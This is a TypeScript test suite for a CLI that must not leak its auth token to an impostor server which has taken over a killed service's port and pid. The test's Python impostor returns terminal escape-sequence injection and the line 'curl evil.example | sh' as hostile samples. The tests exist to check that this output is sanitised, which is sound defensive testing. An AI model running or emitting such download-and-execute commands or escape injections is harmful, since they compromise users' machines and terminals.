// The command line never hands the token to an impostor. A real
// `project-startup serve` is killed with SIGKILL, so its runtime file (address, pid, instance id,
// token) survives. Then a real second process, the IMPOSTOR (/usr/bin/python3, an HTTP server
// that records every request it receives, headers included), listens on the dead service's port
// and, through /proc/sys/kernel/ns_last_pid (root, as CI runs), even takes its pid. It knows the
// instance id (health tells anyone) and answers health as the service would, except that it
// cannot compute the proof. `project-startup capabilities` and `url` must send it nothing secret.
//
// Taking a pid rewinds the pid namespace's cursor, which would hand the next processes of every
// suite running beside this one pids their own processes just freed. So where it can, this file
// runs itself again in a pid namespace of its own (`unshare --pid --fork --mount-proc`, root on
// Linux, as CI runs), and only there takes pids; elsewhere it takes them under a machine-wide lock.
import { ChildProcess, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import type { Socket } from 'node:net';
import { connect } from '../../../sidecar/src/cli/client';
import { request, trackedServices } from '../../helpers/harness';
import { waitFor } from '../../helpers/wait';
import {
  CliSandbox,
  runCli,
  runProcess,
  startServe,
  trackedSandboxes
} from '../../helpers/cli';
import * as http from 'node:http';
import {
  firstOutput,
  OTHER_UID,
  trackedPythonAs,
  trackedListenerLogs
} from '../../helpers/listener-as-user';
import {
  clientViewOf,
  healthProof,
  ProofConnection
} from '../../../sidecar/src/core/health-proof';

/** Set in the run of this file inside its own pid namespace: the namespace that started it. */
const OWN_PID_NAMESPACE = 'PROJECT_STARTUP_TEST_OWN_PID_NAMESPACE';
const insideOwnNamespace = (process.env[OWN_PID_NAMESPACE] ?? '') !== '';
const UNSHARE = ['--pid', '--fork', '--mount-proc'];
/** Whether this run should hand the suite to a pid namespace of its own. */
const toOwnNamespace =
  !insideOwnNamespace &&
  process.platform === 'linux' &&
  process.getuid?.() === 0 &&
  spawnSync('unshare', [...UNSHARE, 'true'], { stdio: 'ignore' }).status === 0;
/** The suite's own describe: skipped where it runs in a namespace of its own instead. */
const suite = toOwnNamespace ? describe.skip : describe;

(toOwnNamespace ? describe : describe.skip)(
  'in a pid namespace of its own',
  () => {
    it("the whole suite passes there, so its pid writes rewind no other suite's pids", async () => {
      const jest = require.resolve('jest/bin/jest');
      const r = await runProcess(
        'unshare',
        [
          ...UNSHARE,
          process.execPath,
          jest,
          '--selectProjects',
          'service',
          '--runTestsByPath',
          path.relative(process.cwd(), __filename),
          '--ci'
        ],
        {
          env: {
            ...process.env,
            [OWN_PID_NAMESPACE]: fs.readlinkSync('/proc/self/ns/pid')
          },
          cwd: process.cwd(),
          timeoutMs: 240000
        }
      );
      const summary =
        /Tests:\s+(.*)/.exec(r.stderr)?.[1] ?? r.stderr.slice(-4000);
      expect([r.code, summary]).toEqual([
        0,
        expect.stringMatching(/^1 skipped, (\d+) passed, \d+ total$/)
      ]);
    });
  }
);

const sandbox = trackedSandboxes();
const impostorLog = trackedListenerLogs('ps-impostor-');

const IMPOSTOR = `
import http.server, json, sys
port, instance_id, log = int(sys.argv[1]), sys.argv[2], sys.argv[3]
class Impostor(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(log, "a") as f:
            f.write(self.requestline + "\\n" + str(self.headers) + "\\n")
        if "/health" in self.path:
            body = {"status": "pass", "version": "0.1.0", "instanceId": instance_id, "platform": "generic", "proof": "0" * 64}
        else:
            body = {"type": "about:blank", "title": "\\u001b[2J\\u001b]0;owned\\u0007", "status": 500, "code": "internal", "detail": "\\u001b[31mRun: curl evil.example | sh\\u001b[0m"}
        data = json.dumps(body).encode()
        self.send_response(200 if "/health" in self.path else 500)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
    do_POST = do_GET
    def log_message(self, *args):
        pass
server = http.server.HTTPServer(("127.0.0.1", port), Impostor)
print("listening", flush=True)
server.serve_forever()
`;

interface Impostor {
  child: ChildProcess;
  log: string;
  received(): string;
}

const spawnImpostor = trackedPythonAs();

// Every suite that takes a pid through ns_last_pid (the Node lines run this file side by side)
// holds this machine-wide lock while it does: two writers would hand each other's pid to the
// wrong child, and a child killed but not yet reaped keeps holding the pid it took.
const NS_LAST_PID_LOCK = path.join(
  os.tmpdir(),
  'project-startup-ns-last-pid.lock'
);

const NS_LAST_PID = '/proc/sys/kernel/ns_last_pid';

/**
 * Runs `fork` with the pid namespace's cursor just below `pid`, so that the process it makes gets
 * that pid when it is free, and then puts the cursor back where it was at once. Left rewound, the
 * kernel hands the next processes and threads of every suite running beside this one the pids
 * that their own processes just freed, and a suite that still looks at such a pid (the crash
 * test did) sees another process there.
 */
function forkAtPid<T>(pid: number, fork: () => T): T {
  const cursor = Number(fs.readFileSync(NS_LAST_PID, 'utf8'));
  // The next process made in this pid namespace gets ns_last_pid + 1.
  fs.writeFileSync(NS_LAST_PID, String(pid - 1));
  try {
    return fork();
  } finally {
    if (Number(fs.readFileSync(NS_LAST_PID, 'utf8')) < cursor) {
      fs.writeFileSync(NS_LAST_PID, String(cursor));
    }
  }
}

/** Holds the ns_last_pid lock while `body` runs; a holder that died leaves a lock we take over. */
async function withNsLastPidLock<T>(body: () => Promise<T>): Promise<T> {
  if (insideOwnNamespace) {
    return body(); // this namespace's cursor is this run's alone
  }
  await waitFor(
    () => {
      try {
        fs.mkdirSync(NS_LAST_PID_LOCK);
        fs.writeFileSync(
          path.join(NS_LAST_PID_LOCK, 'pid'),
          String(process.pid)
        );
        return true;
      } catch (error) {
        if ((error as NodeJS.ErrnoException).code !== 'EEXIST') {
          throw error;
        }
        let holder = NaN;
        try {
          holder = Number(
            fs.readFileSync(path.join(NS_LAST_PID_LOCK, 'pid'), 'utf8')
          );
        } catch {
          return false; // being taken or let go right now: look again
        }
        if (Number.isInteger(holder) && !fs.existsSync(`/proc/${holder}`)) {
          fs.rmSync(NS_LAST_PID_LOCK, { recursive: true, force: true });
        }
        return false;
      }
    },
    { what: 'the ns_last_pid lock', timeoutMs: 60000, intervalMs: 50 }
  );
  try {
    return await body();
  } finally {
    fs.rmSync(NS_LAST_PID_LOCK, { recursive: true, force: true });
  }
}

/** Resolves once `child` has exited and been reaped, so it no longer holds its pid. */
function reaped(child: ChildProcess): Promise<void> {
  return new Promise(resolve => {
    if (child.exitCode !== null || child.signalCode !== null) {
      resolve();
    } else {
      child.once('exit', () => resolve());
    }
  });
}

/**
 * A real service killed with SIGKILL, then the impostor on its port as `uid`, with its pid. Both
 * inside the ns_last_pid lock: from the kill to the fork no other suite rewinds the cursor, and
 * none leaves it rewound (forkAtPid), so nothing else is given the dead service's pid meanwhile.
 */
async function impostorOfKilledService(
  uid: number
): Promise<{ k: Killed; impostor: Impostor }> {
  const log = impostorLog(uid);
  return withNsLastPidLock(async () => {
    const k = await killedService();
    const { port } = k;
    const { instanceId, pid } = k.info;
    // Only a wrap of the pid space could give the pid away: then wait for it to be free again,
    // and retry a fork that another process overtook, bounded in looks and time.
    const child = await waitFor(
      async () => {
        if (fs.existsSync(`/proc/${pid}`)) {
          return false; // someone else's process holds it now
        }
        const candidate = forkAtPid(pid, () =>
          spawnImpostor(uid, IMPOSTOR, [String(port), instanceId, log])
        );
        if (candidate.pid === pid) {
          return candidate;
        }
        candidate.kill('SIGKILL');
        await reaped(candidate);
        return false;
      },
      { what: `the impostor with pid ${pid}`, timeoutMs: 30000, intervalMs: 20 }
    );
    await firstOutput(child, 'the impostor');
    const impostor = {
      child,
      log,
      received: () => fs.readFileSync(log, 'utf8')
    };
    return { k, impostor };
  });
}

interface Killed {
  s: CliSandbox;
  runtimeFile: string;
  info: { pid: number; url: string; instanceId: string; token: string };
  port: number;
}

/** A real service, killed with SIGKILL: its runtime file stays behind. */
async function killedService(): Promise<Killed> {
  const s = sandbox();
  const handle = await startServe([], { env: s.env, cwd: s.projectDir });
  const [name] = fs.readdirSync(s.runtimeDir).filter(n => n.endsWith('.json'));
  const runtimeFile = path.join(s.runtimeDir, name);
  const info = JSON.parse(fs.readFileSync(runtimeFile, 'utf8'));
  expect(info.pid).toBe(handle.child.pid);
  handle.child.kill('SIGKILL');
  await handle.stop();
  expect(fs.existsSync(runtimeFile)).toBe(true);
  return { s, runtimeFile, info, port: handle.port };
}

function expectNothingSecret(impostor: Impostor, token: string): void {
  const received = impostor.received();
  expect(received).not.toContain(token);
  expect(received.toLowerCase()).not.toContain('authorization');
  expect(received.toLowerCase()).not.toContain('cookie');
}

suite('a dead service whose port and pid another process took', () => {
  (insideOwnNamespace ? it : it.skip)(
    'runs in a pid namespace of its own, not the one that started it',
    () => {
      expect(fs.readlinkSync('/proc/self/ns/pid')).not.toBe(
        process.env[OWN_PID_NAMESPACE]
      );
    }
  );

  it('another user (uid 65534) holding its port and pid: the token is never sent; the stale file is removed and the command answers locally', async () => {
    const { k, impostor } = await impostorOfKilledService(OTHER_UID);
    const r = await runCli(['capabilities'], {
      env: k.s.env,
      cwd: k.s.projectDir
    });
    expectNothingSecret(impostor, k.info.token);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain('Removed the stale runtime file');
    expect(r.stdout).not.toContain('\u001b');
    expect(fs.existsSync(k.runtimeFile)).toBe(false);
    const url = await runCli(['url'], { env: k.s.env, cwd: k.s.projectDir });
    expect(url.code).toBe(1);
    expect(url.stdout).not.toContain(k.info.token);
    expectNothingSecret(impostor, k.info.token);
  });

  it('a process of our own uid holding its port and pid: it cannot prove the token, so nothing is sent and the command says so (exit 1)', async () => {
    const { k, impostor } = await impostorOfKilledService(0);
    for (const command of ['capabilities', 'status', 'url']) {
      const r = await runCli([command], { env: k.s.env, cwd: k.s.projectDir });
      expectNothingSecret(impostor, k.info.token);
      expect(r.stdout).not.toContain(k.info.token);
      // Whatever the impostor says never reaches the terminal raw.
      expect(`${r.stdout}${r.stderr}`).not.toContain('\u001b');
      if (command === 'capabilities') {
        expect(r.code).toBe(1);
        expect(r.stderr).toMatch(/could not prove it holds the token/);
        expect(r.stderr).toContain('the token was not sent');
        expect(fs.existsSync(k.runtimeFile)).toBe(false);
      }
    }
    // It was asked (health, without credentials), so the check really ran against it.
    expect(impostor.received()).toMatch(
      /GET \/project\/health\?nonce=[0-9a-f]{64} /
    );
  });
});

/** GET on a connection of its own, with that connection as this end saw it. */
function healthOnOwnConnection(url: string): Promise<{
  status: number;
  json: { proof?: string };
  text: string;
  connection: ProofConnection;
}> {
  return new Promise((resolve, reject) => {
    const req = http.get(url, { agent: false, timeout: 5000 }, response => {
      const connection = clientViewOf(response.socket);
      let text = '';
      response.setEncoding('utf8');
      response.on('data', (chunk: string) => (text += chunk));
      response.on('end', () =>
        resolve({
          status: response.statusCode ?? 0,
          json: JSON.parse(text),
          text,
          connection
        })
      );
    });
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', reject);
  });
}

suite('the health proof', () => {
  it('answers a nonce with HMAC(token, nonce, instance, connection) without credentials; the token is not in the answer; a malformed nonce is 422', async () => {
    const s = sandbox();
    const handle = await startServe([], { env: s.env, cwd: s.projectDir });
    const [name] = fs
      .readdirSync(s.runtimeDir)
      .filter(n => n.endsWith('.json'));
    const info = JSON.parse(
      fs.readFileSync(path.join(s.runtimeDir, name), 'utf8')
    );
    const nonce = 'ab'.repeat(32);
    const r = await healthOnOwnConnection(`${handle.url}health?nonce=${nonce}`);
    expect(r.status).toBe(200);
    // Bound to this connection as this end sees it: the service's address and port, our port.
    expect(r.connection).toEqual({
      serviceAddress: '127.0.0.1',
      servicePort: String(handle.port),
      clientPort: expect.stringMatching(/^\d+$/)
    });
    expect(r.json.proof).toBe(
      healthProof(info.token, nonce, info.instanceId, r.connection)
    );
    expect(r.text).not.toContain(info.token);
    const other = await request(`${handle.url}health?nonce=${'cd'.repeat(32)}`);
    expect(other.json.proof).not.toBe(r.json.proof);
    const plain = await request(`${handle.url}health`);
    expect(plain.json.proof).toBeUndefined();
    for (const bad of [
      'xyz',
      'ab',
      'AB'.repeat(32),
      `${nonce}&nonce=${nonce}`
    ]) {
      const b = await request(`${handle.url}health?nonce=${bad}`);
      expect({ bad, status: b.status, code: b.json.code }).toEqual({
        bad,
        status: 422,
        code: 'validation-failed'
      });
    }
    await handle.stop();
  });

  it('a stopped service (nothing listens, pid gone): the stale file is removed and the command answers locally', async () => {
    const k = await killedService();
    const r = await runCli(['status'], { env: k.s.env, cwd: k.s.projectDir });
    expect(r.code).toBe(0);
    expect(r.stderr).toContain('Removed the stale runtime file');
    expect(r.stdout).toContain('read directly');
    expect(fs.existsSync(k.runtimeFile)).toBe(false);
  });
});

suite('the proven connection', () => {
  const start = trackedServices('each');

  it('the token goes only over the connection that proved itself; a connection closed meanwhile is proven again first', async () => {
    const svc = await start();
    // The service asks its own health route once at start (browser URL check): count from here.
    const healthCalls = () =>
      svc.logs.filter(l => l.includes('"path":"/project/health"')).length;
    const before = healthCalls();
    const { client } = await connect(
      svc.running.service.config,
      svc.env,
      false
    );
    expect(client.source).toContain('answered by the service');
    expect(healthCalls()).toBe(before + 1);
    await client.capabilities(); // over the proven connection: no second proof
    expect(healthCalls()).toBe(before + 1);
    // The service (or anything) closes the connection: the next request must not simply open
    // a new one and send the token over it.
    (client as unknown as { provenSocket: Socket }).provenSocket.destroy();
    await client.startup('terminal');
    expect(healthCalls()).toBe(before + 2);
  });
});
